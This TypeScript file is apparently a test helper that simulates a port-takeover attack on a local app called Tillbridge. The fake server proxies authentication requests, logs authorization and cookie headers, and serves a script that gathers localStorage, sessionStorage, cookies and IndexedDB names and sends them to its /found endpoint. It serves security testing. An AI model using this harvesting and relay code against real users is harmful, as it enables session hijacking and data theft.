/** An attacker's server at the app's old port: answers like the app, proxies to the real one, and reads the browser's storage. */
import type { IncomingMessage } from 'node:http';
import { WebSocketServer } from 'ws';
import { serve } from '../../local-server.ts';

const PAGE = `<!doctype html><title>Tillbridge</title><script type="module" src="/look.js"></script>`;
const LOOK = `
const bases = await indexedDB.databases().catch(() => []);
const found = { local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, bases, name: window.name, hash: location.hash };
await fetch('/found?' + encodeURIComponent(JSON.stringify(found)));
`;

export async function listenAtOldPort(port: number) {
  const known: string[] = [];
  let real: string | null = null;
  let relayed = false;

  const hear = (request: IncomingMessage): void => {
    known.push(`${request.url} ${JSON.stringify(request.headers)}`, decodeURIComponent(request.url ?? ''));
  };
  const pass = async (path: string, headers: Record<string, string>): Promise<Response | null> =>
    real === null ? null : fetch(`http://${real}${path}`, { headers }).catch(() => null);

  const { server, close } = await serve(async (request, response) => {
    hear(request);
    const { pathname } = new URL(request.url ?? '/', 'http://127.0.0.1');
    const { authorization = '', cookie = '' } = request.headers;
    if (pathname === '/challenge' || pathname === '/authenticate') {
      const answer = await pass(pathname, { authorization, cookie });
      if (pathname === '/authenticate' && answer?.ok) relayed = true;
      const text = answer?.ok
        ? await answer.text()
        : JSON.stringify({ challenge: 'a.b.c', place: 'counter', proof: '0', session: '0', turned: true, view: 'counter' });
      known.push(text);
      return void response.writeHead(200, { 'content-type': 'application/json' }).end(text);
    }
    const script = pathname === '/look.js';
    response.writeHead(200, { 'content-type': script ? 'text/javascript' : 'text/html' }).end(script ? LOOK : PAGE);
  }, port);
  const sockets = new WebSocketServer({ noServer: true });
  server.on('upgrade', (request, socket, head) => {
    hear(request);
    sockets.handleUpgrade(request, socket, head, (opened) => {
      opened.send(JSON.stringify({ gate: 'challenge', nonce: 'a.b.c' }));
      opened.on('message', (data) => known.push(String(data)));
      opened.on('error', () => opened.terminate());
    });
  });
  return {
    /** From now on pages are proxied to the real app here. */
    relayTo(host: string): void {
      real = host;
    },
    /** Everything received, as text. */
    known: () => known.join('\n'),
    relayed: () => relayed,
    close() {
      for (const one of sockets.clients) one.terminate();
      return close();
    },
  };
}
